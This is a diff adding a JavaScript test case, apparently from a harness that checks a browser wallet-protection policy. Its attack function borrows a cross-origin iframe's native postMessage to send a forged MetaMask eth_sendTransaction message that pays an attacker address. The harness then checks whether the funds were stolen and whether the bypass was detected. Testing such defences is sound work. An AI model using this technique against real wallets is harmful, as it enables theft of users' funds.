@@ -1,0 +1,32 @@
+// G02: a cross-origin frame lends its native postMessage.
+import { reachedWallet } from './logs.mjs';
+
+export default {
+  id: 'G02',
+  title: 'postMessage of a cross-origin frame',
+  source: 'fresh-realm postMessage',
+  level: 'detected',
+  why: 'any cross-origin or sandboxed frame hands out a native postMessage that no script can cover; policy frames: "none" prevents it',
+  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
+
+  async attack(a) {
+    const params = [{ from: a.USER, to: a.EVIL, value: '0x5' }];
+    const rpc = { jsonrpc: '2.0', id: 4242, method: 'eth_sendTransaction', params };
+    const message = { target: 'metamask-contentscript', data: { name: 'metamask-provider', data: rpc } };
+    const frame = document.createElement('iframe');
+    frame.src = `${a.other}/frame.html`;
+    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
+    document.documentElement.append(frame);
+    await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 2000))]);
+    frame.contentWindow.postMessage.call(window, message, location.origin);
+  },
+
+  async action(a, app) {
+    return app.pay(a.GOOD, 5n);
+  },
+
+  stolen: ({ wallet, a }) => reachedWallet(wallet, a.EVIL),
+  arrived: ({ wallet, a }) => reachedWallet(wallet, a.GOOD),
+  violation: { surface: 'postmessage', grade: 'tamper' },
+  status: (status) => status.reasons.includes('wallet-bypass'),
+};
